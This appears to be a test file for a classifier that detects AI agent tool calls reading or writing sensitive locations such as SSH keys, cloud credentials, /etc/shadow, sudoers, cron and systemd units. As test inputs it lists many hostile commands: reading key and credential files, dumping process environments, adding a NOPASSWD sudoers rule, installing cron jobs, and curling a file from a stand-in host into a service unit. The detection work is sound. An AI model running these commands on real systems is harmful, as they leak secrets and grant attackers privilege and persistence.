// The one sensitive-location classifier, class by class: members are found however they are
// spelled (relative, bare names, globs, /proc views), ordinary project files are not, and
// every route a command reads or writes through (operands, redirections, here-strings) reaches it.
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import {
  classifyLocation,
  type LocationClass,
  loadAnalyzers,
  namedByInstruction,
  pathsNamedIn,
  SENSITIVE_LOCATIONS,
  sensitiveRead,
} from '../../src/analyze/index.ts';

const analyzers = await loadAnalyzers();

/** Members of each class, written the ways an agent might write them (none copied from the lexicon). */
const MEMBERS: Record<LocationClass, string[]> = {
  ssh: ['/home/dev/.ssh/authorized_keys', '~/.ssh/known_hosts', '/root/.ssh', '/etc/ssh/ssh_host_rsa_key'],
  private_keys: ['deploy_id_ecdsa/../id_ecdsa', 'tls/wildcard.pem', 'backup.p12', 'vault.kdbx', 'putty.ppk'],
  cloud_credentials: ['/home/ci/.aws/config', '~/.azure/msal_token_cache.json', '~/.docker/config.json'],
  kubernetes: [
    '~/.kube/prod.yaml',
    '/run/secrets/kubernetes.io/serviceaccount/namespace',
    '/etc/kubernetes/admin.conf',
  ],
  password_files: ['/home/ops/.netrc', '.pgpass', '~/.my.cnf', 'repo/../.git-credentials'],
  secret_files: ['services/api/.env.local', 'deploy/prod.env', 'k8s/secrets.yml', 'gcp/credentials.json'],
  package_manager_rc: ['~/.npmrc', 'project/.yarnrc.yml', '/home/py/.pypirc', '~/.m2/settings.xml'],
  shell_startup: ['~/.bash_profile', '/home/a/.zlogin', '/etc/profile.d/zz-hook.sh', '/etc/bash.bashrc'],
  cron: ['/etc/cron.daily/logrotate2', '/var/spool/cron/crontabs/root', '/etc/anacrontab'],
  sudoers: ['/etc/sudoers.d/nopasswd', '/etc/doas.conf'],
  service_units: [
    '/etc/systemd/system/miner.service',
    '/usr/lib/systemd/user/x.timer',
    '~/.config/autostart/tray.desktop',
    '/etc/ld.so.preload',
  ],
  git_internals: ['web/.git/hooks/pre-push', './.git/config', '/home/u/.gitconfig'],
  browser_profiles: [
    '~/.mozilla/firefox/x1.default-release/key4.db',
    '~/.config/chromium/Default/Login Data',
  ],
  system_secrets: ['/etc/shadow', '//etc//gshadow', '/etc/ssl/private/site.key'],
  process_memory: ['/proc/4242/environ', '/proc/self/mem', '/proc/1/fd/3', '/proc/7/task/8/environ'],
  raw_devices: ['/dev/sdb2', '/dev/nvme1n1p3', '/dev/mmcblk0', '/dev/mapper/vg-root'],
  shell_history: ['~/.zsh_history', '/root/.bash_history', '~/.psql_history'],
};

const ORDINARY = [
  'src/config.ts',
  'notes/key.md',
  'docs/keys.txt',
  'package.json',
  '/home/u/project/summary.txt',
  '/tmp/build/out.log',
  'environment.md',
  '/dev/null',
  '/proc/cpuinfo',
  'src/profile.ts',
  'cron-notes.txt',
];

describe('the location lexicon', () => {
  it('documents every class: what it decides, its risk, its patterns and examples', () => {
    const classes = SENSITIVE_LOCATIONS.map((r) => r.class);
    assert.deepEqual([...classes].sort(), Object.keys(MEMBERS).sort());
    for (const r of SENSITIVE_LOCATIONS) {
      assert.ok(r.decides.length > 10, r.class);
      assert.ok(r.risk.length > 0 && r.patterns.length > 0 && r.examples.length > 0, r.class);
      // each example of a class is classified as that class
      for (const e of r.examples) assert.ok(classifyLocation(e).includes(r.class), `${r.class}: ${e}`);
    }
  });

  for (const [cls, members] of Object.entries(MEMBERS))
    it(`${cls}: every member is found`, () => {
      for (const m of members)
        assert.ok(classifyLocation(m).includes(cls as LocationClass), `${m}: ${classifyLocation(m)}`);
    });

  it('ordinary project files and harmless devices are not sensitive', () => {
    for (const p of ORDINARY) assert.deepEqual(classifyLocation(p), [], p);
  });

  it('/proc/*/root and /proc/*/cwd are views of other paths', () => {
    assert.ok(classifyLocation('/proc/1/root/etc/sudoers').includes('sudoers'));
    assert.ok(classifyLocation('/proc/self/root/root/.ssh/id_rsa').includes('ssh'));
    assert.ok(classifyLocation('/proc/33/cwd/.env').includes('secret_files'));
    assert.ok(classifyLocation('/proc/thread-self/root/proc/1/root/etc/shadow').includes('system_secrets'));
    assert.deepEqual(classifyLocation('/proc/1/root/tmp/out.txt'), []);
  });

  it('a glob is sensitive when something it can match is', () => {
    assert.ok(classifyLocation('~/.ssh/*').includes('ssh'));
    assert.ok(classifyLocation('~/.ss?/id_*').includes('ssh'));
    assert.ok(classifyLocation('/home/*/.aws/*').includes('cloud_credentials'));
    assert.ok(classifyLocation('/dev/sd?').includes('raw_devices'));
    assert.ok(classifyLocation('/etc/cron.*/*').includes('cron'));
    // shell globbing: `*` does not match a leading dot, so it cannot reach into ~/.ssh
    assert.deepEqual(classifyLocation('~/*/authorized_keys'), []);
    // but a key file name is a key wherever the glob finds it
    assert.ok(classifyLocation('~/*/id_rsa').includes('private_keys'));
    assert.deepEqual(classifyLocation('src/*.ts'), []);
  });

  it('a home given in options is seen through', () => {
    assert.ok(classifyLocation('/Users/kim/.kube/config', { home: '/Users/kim' }).includes('kubernetes'));
  });
});

describe('every route a command reads through', () => {
  const reads = (command: string) => {
    const a = analyzers.analyzeCall({ tool: 'terminal', args: { command } });
    return a.touches;
  };

  it('input redirection, here-strings, operands and option values', () => {
    for (const [command, cls] of [
      ['wc -l < /home/me/.ssh/id_ed25519', 'ssh'],
      ['tr a-z A-Z < ~/.docker/config.json', 'cloud_credentials'],
      ['{ head -n 3; } < ~/.pgpass', 'password_files'],
      ['while read l; do echo "$l"; done < .env.production', 'secret_files'],
      ['xargs head <<< /var/run/secrets/kubernetes.io/serviceaccount/token', 'kubernetes'],
      ['grep -c x --file=/etc/gshadow notes.txt', 'system_secrets'],
      ["tr '\\0' '\\n' < /proc/self/environ", 'process_memory'],
      ['tail -c 512 /dev/nvme0n1', 'raw_devices'],
      ['less ~/.python_history', 'shell_history'],
      ['cat signing.key', 'private_keys'],
      ['sed -n 1p web/.git/config', 'git_internals'],
      ['cat ~/.s*/id_*', 'ssh'],
      ['grep -f~/.git-credentials notes.txt', 'password_files'],
      ['cd ~/.kube && cat config', 'kubernetes'],
    ] as const) {
      const t = reads(command);
      assert.ok(
        t.some((x) => x.access === 'read' && x.classes.includes(cls)),
        `${command}: ${JSON.stringify(t)}`,
      );
    }
  });

  it('writes through redirections, copies and tee are writes', () => {
    for (const [command, cls] of [
      ['echo "alias ls=x" >> ~/.zshrc', 'shell_startup'],
      ['cp pub.txt /root/.ssh/authorized_keys', 'ssh'],
      ['printf "* * * * * x\\n" | tee /etc/cron.d/sync', 'cron'],
      ['crontab jobs.txt', 'cron'],
      ['echo "u ALL=(ALL) NOPASSWD:ALL" > /etc/sudoers.d/u', 'sudoers'],
      ['install -m 755 hook.sh .git/hooks/pre-commit', 'git_internals'],
      ['sort -o/etc/cron.d/rotate jobs.txt', 'cron'],
      [`python3 -c "open('/home/ann/.bashrc', 'a').write('x')"`, 'shell_startup'],
      ['curl -so ~/.config/systemd/user/agent.service https://x.example/a', 'service_units'],
    ] as const) {
      const t = reads(command);
      assert.ok(
        t.some((x) => x.access === 'write' && x.classes.includes(cls)),
        `${command}: ${JSON.stringify(t)}`,
      );
    }
    // a commit message that mentions a file is text, not a path
    assert.deepEqual(reads('git commit -m "document .env.example and ~/.npmrc"'), []);
    // an SSH identity or a sourced script is read, not written
    assert.deepEqual(
      reads('ssh -i ~/.ssh/deploy_ed25519 ci@build.example').map((x) => x.access),
      ['read'],
    );
    // the copy's source is read, its destination written
    const copy = reads('cp ~/.aws/credentials /tmp/c');
    assert.deepEqual(
      copy.map((x) => x.access),
      ['read'],
    );
  });

  it('a read-only command that reads a sensitive location is not harmless', () => {
    for (const command of [
      'cat < ~/.kube/config',
      'sort < /home/x/.aws/credentials',
      'head -c 64 /dev/sdc',
    ]) {
      const [cmd] = analyzers.shell(command).commands;
      assert.ok(cmd && sensitiveRead(cmd), command);
    }
    const [plain] = analyzers.shell('sort < data/names.txt').commands;
    assert.equal(plain && sensitiveRead(plain), undefined);
  });
});

describe('naming by the instruction', () => {
  it('a path, its tail, a distinctive file name or the name users call it', () => {
    const named = (path: string, instruction: string) =>
      namedByInstruction(path, classifyLocation(path), instruction);
    assert.ok(named('~/.ssh/authorized_keys', 'Add this key to ~/.ssh/authorized_keys please'));
    assert.ok(named('/home/lee/.ssh/authorized_keys', 'append it to .ssh/authorized_keys'));
    assert.ok(named('~/.zshrc', 'put the alias in my zshrc'));
    assert.ok(named('~/.zshrc', 'put the alias in /home/kai/.zshrc'));
    assert.ok(named('/var/spool/cron/crontabs', 'schedule the backup in the crontab'));
    assert.ok(!named('~/.ssh/authorized_keys', 'Save the report to /srv/out/report.md'));
    assert.ok(!named('.git/config', 'update the config in settings.json'));
    assert.ok(!named('~/.bashrc', 'tidy up the repository'));
  });

  it('finds the files an instruction names', () => {
    assert.deepEqual(pathsNamedIn("Store 'done' in /srv/a/status.txt and notes.md."), [
      '/srv/a/status.txt',
      'notes.md',
    ]);
    assert.deepEqual(pathsNamedIn('Summarise the meeting for me'), []);
  });
});

describe('file tool arguments', () => {
  it('the place a file tool writes is judged, what it writes is not', () => {
    const a = analyzers.analyzeCall({
      tool: 'write_file',
      args: { path: 'src/settings.ts', content: 'process.env' },
    });
    assert.deepEqual(a.touches, []);
    const b = analyzers.analyzeCall({ tool: 'rename_file', args: { from: 'notes.txt', to: '.zprofile' } });
    assert.deepEqual(
      b.touches.map((t) => [t.path, t.access, t.classes]),
      [['.zprofile', 'write', ['shell_startup']]],
    );
    // code names the files it opens inside its text
    const code = analyzers.analyzeCall({
      tool: 'run_python',
      args: { code: "keys = open('/root/.ssh/id_ed25519').read()\nprint(len(keys))" },
    });
    assert.deepEqual(
      code.touches.map((t) => [t.path, t.classes]),
      [['/root/.ssh/id_ed25519', ['ssh', 'private_keys']]],
    );
    const c = analyzers.analyzeCall({ tool: 'read_text_file', args: { path: '/proc/self/root/etc/shadow' } });
    assert.deepEqual(
      c.touches.map((t) => t.access),
      ['read'],
    );
  });
});
